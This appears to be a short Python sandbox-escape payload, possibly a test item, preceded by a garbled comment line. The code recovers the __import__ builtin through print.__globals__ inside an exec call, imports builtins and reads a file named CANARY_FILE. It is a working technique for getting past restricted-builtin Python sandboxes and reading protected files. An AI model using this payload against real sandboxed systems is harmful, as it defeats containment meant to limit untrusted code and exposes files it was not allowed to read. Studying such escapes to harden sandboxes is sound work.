# Has a text of its own take the way.
exec("out = print.__globals__['__builtins__']['__import__']")
print(out('builtins').open('CANARY_FILE').read())
